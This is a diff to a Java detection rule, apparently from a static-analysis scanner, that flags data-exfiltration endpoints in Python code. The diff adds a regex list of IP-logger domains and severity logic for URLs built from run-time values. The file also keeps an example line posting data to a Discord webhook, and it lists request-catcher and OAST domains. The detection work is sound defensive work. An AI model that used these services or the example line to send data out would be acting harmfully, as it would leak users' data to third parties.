@@ -4,6 +4,7 @@ import dev.kingsnake.Confidence;
 import dev.kingsnake.Severity;
 import dev.kingsnake.spi.RuleInfo;
 import dev.kingsnake.spi.Tags;
+import dev.kingsnake.spi.python.Expr;
 
 import java.util.EnumSet;
 import java.util.List;
@@ -18,7 +19,8 @@ public final class ExfilEndpointRule extends IndicatorRule {
             Severity.HIGH, Confidence.HIGH, Set.of(Tags.NETWORK, Tags.EXFILTRATION),
             "requests.post('https://discord.com/api/webhooks/123/abc', json={'content': data})  # id/token made up",
             "Webhook and bot client libraries name the base API; a concrete webhook URL or bot token, or an OAST / "
-                    + "request-catcher domain, is reported always (critical when the same function sends data); base "
+                    + "request-catcher or IP-logger domain, is reported always (critical when the same function "
+                    + "sends data: a POST, or a URL carrying run-time values); base "
                     + "APIs, paste, file-drop and tunnel services only where the same function sends data (high), uses "
                     + "the network (medium) or the file does (lower).");
 
@@ -32,6 +34,9 @@ public final class ExfilEndpointRule extends IndicatorRule {
                             + "(pro|live|site|online|fun|me)|oastify\\.com|burpcollaborator\\.net|dnslog\\.cn|\\.ceye\\.io"
                             + "|canarytokens\\.com|hookbin\\.com|requestcatcher\\.com|webhookrelay\\.com|\\.beeceptor\\.com"
                             + "|\\.xss\\.ht|pingb\\.in|\\.dnslog\\.|bxss\\.me|\\.requestrepo\\.com)"),
+            Indicator.strong("IP-logger (visitor-grabbing) service",
+                    "(^|[./])(iplogger\\.(org|com|ru|co|info)|grabify\\.link|2no\\.co|yip\\.su|iplis\\.ru"
+                            + "|blasze\\.(com|tk)|ipgrabber\\.ru|ps3cfw\\.com)(/|$)"),
             Indicator.weak("Discord webhook API", "discord(app)?\\.com/api/(v\\d+/)?webhooks"),
             Indicator.weak("Telegram bot API", "api\\.telegram\\.org/bot"),
             Indicator.weak("Slack/Teams incoming webhook", "hooks\\.slack\\.com/services/t|webhook\\.office\\.com"),
@@ -62,6 +67,7 @@ public final class ExfilEndpointRule extends IndicatorRule {
     protected Grade grade(CodeFacts facts, Hit h, boolean several) {
         boolean sendsHere = facts.scopeHas(h.string().scope(), Capability.SEND);
         if (h.indicator().strong()) {
+            sendsHere |= carriesData(h) && facts.scopeHas(h.string().scope(), Capability.NETWORK);
             return new Grade(sendsHere ? Severity.CRITICAL : Severity.HIGH, Confidence.HIGH);
         }
         if (sendsHere) {
@@ -74,6 +80,17 @@ public final class ExfilEndpointRule extends IndicatorRule {
             return new Grade(Severity.MEDIUM, Confidence.MEDIUM);
         }
         return null;
+    }
+
+    /**
+     * A URL built with run-time values (an f-string with a hole after the scheme: in the host or the path):
+     * with a network call in the same function, the values leave in the URL even over GET.
+     */
+    private static boolean carriesData(Hit h) {
+        String t = h.string().text();
+        int host = t.indexOf("://");
+        return (h.string().node() instanceof Expr.FString || h.string().node() instanceof Expr.BinOp)
+                && t.indexOf("{}", host < 0 ? 0 : host + 3) > 0;
     }
 
     @Override
